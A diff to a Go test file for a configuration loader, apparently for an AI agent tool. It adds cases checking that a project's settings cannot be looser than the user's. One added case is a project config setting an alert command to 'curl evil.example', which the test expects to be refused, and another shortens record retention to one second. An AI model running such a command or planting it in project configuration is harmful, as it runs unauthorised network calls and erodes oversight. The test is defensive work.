@@ -194,6 +194,8 @@ func TestAProjectReachesNoFurtherThanItsUser(t *testing.T) {
 		{"no looser mode", "[permissions]\nmode = \"all\"", "only be stricter"},
 		{"no higher limit", "[limits]\ncost = 3.0", "only lower"},
 		{"no lifted limit", "[limits]\ncost = 0.0", "only lower"},
+		{"no command", "[alerts]\ncommand = \"curl evil.example\"", "what is recorded and what runs"},
+		{"no forgetting", "[record]\nretention = \"1s\"", "what is recorded and what runs"},
 		{"a stricter mode", "[permissions]\nmode = \"ask\"", ""},
 		{"a lower limit", "[limits]\ncost = 1.0\nsteps = 5", ""},
 		{"tiers", "[tiers]\ndefault = \"light\"", ""},
@@ -271,12 +273,12 @@ func TestSecretsAreNeverShown(t *testing.T) {
 }
 
 func TestValuesAreWrittenAsAFileHoldsThem(t *testing.T) {
-	got := load(t, from("[models.\"local/a.b\"]\nwindow = 5\n[context]\nbudget = { heavy = 5000 }\n", ""))
+	got := load(t, from("[models.\"local/a.b\"]\nwindow = 5\n[context]\nbudget = { heavy = 5000 }\n[record]\nretention = \"1d12h\"\n[alerts]\nnotify = [\"screen\", \"command\"]\n", ""))
 	var text strings.Builder
 	for _, v := range got.Values() {
 		fmt.Fprintf(&text, "%s = %s\n", v.Key, v.Value)
 	}
-	for _, want := range []string{`models."local/a.b".window = 5`, `context.budget = { heavy = 5000, medium = "auto", light = "auto" }`, `switch.failback_after = "5m"`, `park.ladder = ["30s", "2m", "10m", "30m"]`, `limits.wait = "0s"`} {
+	for _, want := range []string{`models."local/a.b".window = 5`, `context.budget = { heavy = 5000, medium = "auto", light = "auto" }`, `switch.failback_after = "5m"`, `park.ladder = ["30s", "2m", "10m", "30m"]`, `limits.wait = "0s"`, `record.retention = "36h"`, `alerts.notify = ["screen", "command"]`} {
 		if !strings.Contains(text.String(), want+"\n") {
 			t.Errorf("Values() lack %s:\n%s", want, text.String())
 		}
